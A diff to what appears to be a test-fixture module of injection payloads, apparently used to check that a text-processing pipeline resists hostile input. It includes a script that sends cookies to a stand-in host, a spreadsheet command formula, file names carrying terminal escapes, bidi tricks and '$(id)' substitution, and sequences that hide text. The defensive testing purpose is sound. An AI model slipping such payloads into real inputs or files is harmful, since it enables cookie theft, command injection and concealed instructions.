@@ -39,7 +39,7 @@ _PAYLOADS = {
     "bell_and_backspace": f"{BEL}\b\b\b\b\x7f\x7f",
     "carriage_return": "\rVOID\r",
     "form_feed": "\x0b\x0c\x0e\x0f",
-    "c1_controls": "\x9b31m\x9d0;x\x9c\x90q\x9c\x84\x85",
+    "c1_controls": "\x9b95m\x9d0;x\x9c\x90q\x9c\x84\x85",
     "report_request": f"{ESC}[6n{ESC}[c{ESC}Z\x05",
     "rich_markup": "[bold red]x[/bold red][link=https://collect.example/]y[/link][/]",
     "html_script": "<script>fetch('//collect.example/'+document.cookie)</script>",
@@ -70,7 +70,7 @@ ATTACKS.update({f"{name}_in_quotation": _in_quotation(payload) for name, payload
 
 _ORDERS: dict[str, tuple[Place, str]] = {
     "concealed_by_ansi": (in_paragraph, f"{ESC}[8m{SENTENCE}{ESC}[0m"),
-    "concealed_by_cursor": (in_paragraph, f"{SENTENCE}{ESC}[1A{ESC}[2K"),
+    "concealed_by_cursor": (in_paragraph, f"{SENTENCE}{ESC}[3A{ESC}[1K"),
     "concealed_by_osc": (in_paragraph, f"{ESC}]0;{SENTENCE}{BEL}"),
     "concealed_by_backspaces": (in_paragraph, f"{SENTENCE}{chr(8) * len(SENTENCE)}{' ' * len(SENTENCE)}"),
     "concealed_by_html_comment": (in_paragraph, f"<!-- {SENTENCE} -->"),
@@ -161,11 +161,11 @@ def _title(words: str) -> Maker:
 ATTACKS.update({name: _title(words) for name, words in _TITLES.items()})
 
 _FILES = {
-    "file_name_with_escapes": f"a{ESC}]0;evil{BEL}{ESC}[31mb.txt",
+    "file_name_with_escapes": f"a{ESC}]0;evil{BEL}{ESC}[95mb.txt",
     "file_name_with_newline": "a\n# Participants\n- Ottokar Fenwhistle.txt",
     "file_name_with_markup": "<img src=x onerror=alert(1)>.txt",
     "file_name_with_bidi": "a\u202etxt.exe\u200b\U000e0041",
-    "file_name_as_formula": "=cmd|' /C calc'!A0.txt",
+    "file_name_as_formula": "=1+cmd|'calc'!A0.txt",
     "file_name_as_link": "![x](javascript:alert(1)).txt",
     "file_name_as_option": "--output=evil.txt",
     "file_name_as_template": "{{ 7*7 }}%s{0}$(id).txt",
@@ -185,7 +185,7 @@ ATTACKS.update({kind: _file(name) for kind, name in _FILES.items()})
 @attack
 def escape_in_byline(text: str, gold: Gold) -> Attack:
     """A byline that reaches the record's facts about the article."""
-    words = f"By Ida {ESC}[31mQuist{ESC}[0m <b>x</b> \u202e\U000e0041 {WORDS}"
+    words = f"By Ida {ESC}[95mQuist{ESC}[0m <b>x</b> \u202e\U000e0041 {WORDS}"
     return Attack(
         under_headline(text, gold, words),
         (WORDS, "Quist"),
